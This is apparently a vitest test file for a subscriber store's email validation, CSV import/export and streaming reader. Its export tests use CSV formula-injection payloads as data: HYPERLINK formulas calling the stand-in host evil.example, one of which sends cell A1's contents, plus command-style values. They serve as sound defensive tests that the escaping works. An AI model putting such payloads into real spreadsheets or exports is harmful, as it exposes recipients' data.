import { describe, expect, it } from 'vitest';
import { Readable } from 'node:stream';
import { text } from 'node:stream/consumers';
import { parse as parseCsv } from 'csv-parse/sync';
import { exportSubscribersCsv, importSubscribersCsv, normaliseEmail, readSubscribersCsv, type Subscriber } from '../../src/store/index.js';

describe('normaliseEmail', () => {
  it('accepts ordinary addresses and lower-cases only the domain', () => {
    expect(normaliseEmail('  John.Doe+news@Example.COM ')).toBe('John.Doe+news@example.com');
    expect(normaliseEmail('root@localhost')).toBe('root@localhost');
    // an internationalised domain is kept as its punycode form (tests/delivery/international.test.ts)
    expect(normaliseEmail('山田@例え.jp')).toBe('山田@xn--r8jz45g.jp');
  });

  it.each([
    ['', /empty/],
    ['no-at-sign.example.org', /exactly one "@"/],
    ['a@b@example.org', /exactly one "@"/],
    ['@example.org', /nothing before/],
    ['someone@', /nothing after/],
    ['some one@example.org', /spaces/],
    ['tab\t@example.org', /spaces or control/],
    ['a@nodot', /not a domain/],
    ['a@example..org', /not a domain/],
    [`${'x'.repeat(65)}@example.org`, /longer than 64/],
    [`a@${'x'.repeat(250)}.org`, /longer than 254/],
  ])('rejects %j with INPUT_INVALID naming the value', (input, why) => {
    let error: unknown;
    try {
      normaliseEmail(input);
    } catch (e) {
      error = e;
    }
    expect(error).toMatchObject({ code: 'INPUT_INVALID' });
    expect((error as Error).message).toContain(`"${input}"`);
    expect((error as Error).message).toMatch(why);
  });
});

describe('importSubscribersCsv', () => {
  it('reads a header, BOM, CRLF, quoted fields with commas, quotes and line breaks', async () => {
    const text = '\uFEFFName,E-Mail,plan\r\n"Doe, John",john@example.org,free\r\n"Say ""hi""",hi@example.org,x\r\n"Two\r\nlines",two@example.org,y\r\n\r\n,bare@example.org,z';
    const { rows, problems } = await importSubscribersCsv(text);
    expect(problems).toEqual([]);
    expect(rows).toEqual([
      { email: 'john@example.org', name: 'Doe, John' },
      { email: 'hi@example.org', name: 'Say "hi"' },
      { email: 'two@example.org', name: 'Two\r\nlines' },
      { email: 'bare@example.org', name: null },
    ]);
  });

  it('reports bad rows with their line and skips them, keeps the good ones', async () => {
    const text = 'email,name\nok@example.org,Ok\nbroken,Bad\n,Empty\n"multi\nline@example.org",X\nOK@example.org,Dup\nlast@example.org,Last\n';
    const { rows, problems } = await importSubscribersCsv(text, 'list.csv');
    expect(rows.map((r) => r.email)).toEqual(['ok@example.org', 'last@example.org']);
    expect(problems.map((p) => [p.file, p.line, p.severity])).toEqual([
      ['list.csv', 3, 'error'],
      ['list.csv', 4, 'error'],
      ['list.csv', 5, 'error'],
      ['list.csv', 7, 'warning'],
    ]);
    expect(problems[0]?.message).toContain('"broken"');
  });

  it('needs an email column', async () => {
    expect((await importSubscribersCsv('name,address\nA,a@example.org\n')).problems).toMatchObject([{ line: 1, severity: 'error', message: expect.stringContaining('"email"') }]);
    expect((await importSubscribersCsv('')).problems).toMatchObject([{ severity: 'error' }]);
  });

  it('reports an unterminated quote', async () => {
    const { rows, problems } = await importSubscribersCsv('email\na@example.org\n"b@example.org\n');
    expect(rows.map((r) => r.email)).toEqual(['a@example.org']);
    expect(problems).toMatchObject([{ line: 3, message: expect.stringContaining('never closed') }]);
  });
});

function subscriber(fields: Partial<Subscriber> & Pick<Subscriber, 'id' | 'email'>): Subscriber {
  const createdAt = fields.createdAt ?? new Date('2026-01-01T00:00:00Z');
  return {
    name: null,
    status: 'active',
    createdAt,
    unsubscribedAt: null,
    statusAt: createdAt,
    confirmSentAt: null,
    consent: { source: null, sourceUrl: null, signupIp: null, signupUserAgent: null, confirmedAt: null, confirmIp: null, confirmUserAgent: null },
    ...fields,
  };
}

describe('exportSubscribersCsv', () => {
  it('writes RFC 4180 CSV that imports back to the same addresses and names', async () => {
    const subscribers: Subscriber[] = [
      subscriber({ id: 1, email: 'a@example.org', name: 'Doe, "J"', createdAt: new Date('2026-01-01T00:00:00Z') }),
      subscriber({ id: 2, email: 'b@example.org', status: 'unsubscribed', createdAt: new Date('2026-01-02T00:00:00Z'), unsubscribedAt: new Date('2026-02-01T00:00:00Z') }),
      subscriber({ id: 3, email: 'c@example.org', name: '山田 太郎', createdAt: new Date('2026-01-03T00:00:00Z') }),
    ];
    const csv = await text(exportSubscribersCsv(subscribers));
    expect(csv.split('\r\n')[0]).toBe('email,name,status,created_at,unsubscribed_at,source,source_url,signup_ip,signup_user_agent,confirmed_at,confirm_ip,confirm_user_agent');
    expect(csv).toContain('a@example.org,"Doe, ""J""",active,2026-01-01T00:00:00.000Z,,,,,,,,\r\n');
    expect(csv).toContain('b@example.org,,unsubscribed,2026-01-02T00:00:00.000Z,2026-02-01T00:00:00.000Z,,,,,,,\r\n');
    const back = await importSubscribersCsv(csv);
    expect(back.problems).toEqual([]);
    expect(back.rows).toEqual(subscribers.map((s) => ({ email: s.email, name: s.name, ...(s.status === 'unsubscribed' ? { optedOut: true } : {}) })));
  });

  it('carries the consent record, and free text from the form cannot become a spreadsheet formula', async () => {
    const csv = await text(exportSubscribersCsv([
      subscriber({
        id: 1,
        email: 'form@example.org',
        name: '=HYPERLINK("http://evil.example/","click")',
        consent: {
          source: 'form',
          sourceUrl: 'https://blog.example.com/about/',
          signupIp: '203.0.113.9',
          signupUserAgent: '+Mozilla/5.0, "quoted"',
          confirmedAt: new Date('2026-01-01T01:00:00Z'),
          confirmIp: '2001:db8::1',
          confirmUserAgent: '@agent',
        },
      }),
    ]));
    const row = csv.split('\r\n')[1];
    expect(row).toBe(
      `form@example.org,"'=HYPERLINK(""http://evil.example/"",""click"")",active,2026-01-01T00:00:00.000Z,,form,https://blog.example.com/about/,203.0.113.9,"'+Mozilla/5.0, ""quoted""",2026-01-01T01:00:00.000Z,2001:db8::1,'@agent`,
    );
  });
});

/** The cells of a CSV as an independent reader sees them (csv-parse's plain defaults, not our reader). */
const cells = (csv: string): string[][] => parseCsv(csv, { bom: true }) as string[][];

const plain = (id: number, email: string, name: string | null): Subscriber => subscriber({ id, email, name });

// OWASP "CSV Injection": a cell starting with one of these is run as a formula by spreadsheets;
// the full-width ones are folded into them by Apple Numbers.
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('exportSubscribersCsv: formula injection', () => {
  it.each(FORMULA_STARTS)('puts a quote mark before a name starting with %j, and import takes it off', async (start) => {
    const name = `${start}HYPERLINK("https://evil.example/?"&A1,"click")`;
    const csv = await text(exportSubscribersCsv([plain(1, 'a@example.org', name)]));
    const [header, row] = cells(csv);
    expect(header).toEqual(['email', 'name', 'status', 'created_at', 'unsubscribed_at', 'source', 'source_url', 'signup_ip', 'signup_user_agent', 'confirmed_at', 'confirm_ip', 'confirm_user_agent']);
    expect(row?.[1]?.[0]).toBe("'");
    expect(row?.[1]).toBe(`'${name}`);
    // our reader gives back the name exactly (a leading tab or CR is the store's to clean: normaliseName)
    const back = await importSubscribersCsv(csv);
    expect(back.problems).toEqual([]);
    expect(back.rows).toEqual([{ email: 'a@example.org', name }]);
  });

  it.each(['=1+1@example.org', '+cmd@example.org', "-2+3+cmd|'@example.org", '\uFF1Dx@example.org'])(
    'puts a quote mark before an address starting with a formula character: %j',
    async (email) => {
      const csv = await text(exportSubscribersCsv([plain(1, email, 'Ann')]));
      const [, row] = cells(csv);
      expect(row?.[0]).toBe(`'${email}`);
      expect((await importSubscribersCsv(csv)).rows).toEqual([{ email: normaliseEmail(email), name: 'Ann' }]);
    },
  );

  it('leaves every other value as it is, and no cell of the export starts with a formula character', async () => {
    const list = [
      plain(1, 'plain@example.org', "O'Brien"),
      plain(2, "o'hara@example.org", "'quoted'"),
      plain(3, 'x@example.org', 'a=b+c-d@e'),
      plain(4, 'y@example.org', null),
      plain(5, 'z@example.org', '山田 太郎'),
    ];
    const csv = await text(exportSubscribersCsv(list));
    const rows = cells(csv).slice(1);
    expect(rows.map((r) => [r[0], r[1]])).toEqual(list.map((s) => [s.email, s.name ?? '']));
    for (const row of rows) for (const cell of row) expect(FORMULA_STARTS).not.toContain(cell[0]);
  });

  it('a value that already starts with quote marks before a formula character survives the round trip', async () => {
    const names = ["'=already", "''+two", "'-", "'''@three", "'", "''"];
    const list = names.map((name, i) => plain(i + 1, `n${i}@example.org`, name));
    const csv = await text(exportSubscribersCsv([...list, plain(99, "'=q@example.org", null)]));
    const rows = cells(csv).slice(1);
    expect(rows.map((r) => r[1])).toEqual(["''=already", "'''+two", "''-", "''''@three", "'", "''", '']);
    expect(rows.at(-1)?.[0]).toBe("''=q@example.org");
    const back = await importSubscribersCsv(csv);
    expect(back.problems).toEqual([]);
    expect(back.rows).toEqual([...names.map((name, i) => ({ email: `n${i}@example.org`, name })), { email: "'=q@example.org", name: null }]);
  });

  it('import takes off one quote mark only before a formula character, as export puts it', async () => {
    const { rows, problems } = await importSubscribersCsv("email,name\n'=a@example.org,'=SUM(A1)\nb@example.org,'plain\n'c@example.org,''-x\n");
    expect(problems).toEqual([]);
    expect(rows).toEqual([
      { email: '=a@example.org', name: '=SUM(A1)' },
      { email: 'b@example.org', name: "'plain" },
      { email: "'c@example.org", name: "'-x" },
    ]);
  });
});

describe('readSubscribersCsv: streaming', () => {
  it('gives the same rows and lines when the file arrives one character at a time', async () => {
    // a BOM and multi-byte characters split between chunks too
    const csv = '\uFEFFemail,name\r\n"a@example.org","Two\r\nlines"\r\nbad,X\r\n"b@example.org","x\ny\rz"\nc@example.org\rnot an address\n\n"d@example.org",山田 太郎';
    const whole: [string, number][] = [];
    const wholeProblems = await readSubscribersCsv(csv, 'l.csv', (row, line) => whole.push([row.email, line]));
    const byChar: [string, number][] = [];
    const names: (string | null)[] = [];
    const byCharProblems = await readSubscribersCsv(Readable.from([...Buffer.from(csv)].map((b) => Buffer.from([b]))), 'l.csv', (row, line) => {
      byChar.push([row.email, line]);
      names.push(row.name);
    });
    expect(names).toEqual(['Two\r\nlines', 'x\ny\rz', null, '山田 太郎']);
    expect(whole).toEqual([
      ['a@example.org', 2],
      ['b@example.org', 5],
      ['c@example.org', 8],
      ['d@example.org', 11],
    ]);
    // a CRLF inside a quoted field is one line (csv-parse's own count says two)
    expect(wholeProblems.map((p) => [p.line, p.field])).toEqual([
      [4, 'email'],
      [9, 'email'],
    ]);
    expect(byChar).toEqual(whole);
    expect(byCharProblems).toEqual(wholeProblems);
  });

  it('reports an over-long name under "name" with its line, and keeps the other rows', async () => {
    const { rows, problems } = await importSubscribersCsv(`email,name\na@example.org,A\nb@example.org,${'x'.repeat(101)}\nc@example.org,C\n`);
    expect(rows.map((r) => r.email)).toEqual(['a@example.org', 'c@example.org']);
    expect(problems).toMatchObject([{ line: 3, field: 'name', severity: 'error', message: expect.stringContaining('at most 100') }]);
  });

  it('a row longer than 64 KiB (a quote never closed in a big file) stops there, reported; the rows before are kept', async () => {
    const rows = Array.from({ length: 50 }, (_, i) => `r${i}@example.org,"R ${i}"`).join('\n');
    const { rows: read, problems } = await importSubscribersCsv(`email,name\n${rows}\n"never@example.org,Unclosed\n${'z@example.org,Z\n'.repeat(10_000)}`);
    expect(read).toHaveLength(50);
    expect(problems).toMatchObject([{ line: 52, severity: 'error', message: expect.stringMatching(/longer than 64 KiB.*rest of the file was skipped/) }]);
  });

  it('throws what the row handler throws (a database error), after the rows before it', async () => {
    const seen: string[] = [];
    const failing = readSubscribersCsv('email\na@example.org\nb@example.org\nc@example.org\n', 'l.csv', (row) => {
      if (row.email.startsWith('b')) throw new Error('disk I/O error');
      seen.push(row.email);
    });
    await expect(failing).rejects.toThrow('disk I/O error');
    expect(seen).toEqual(['a@example.org']);
  });
});
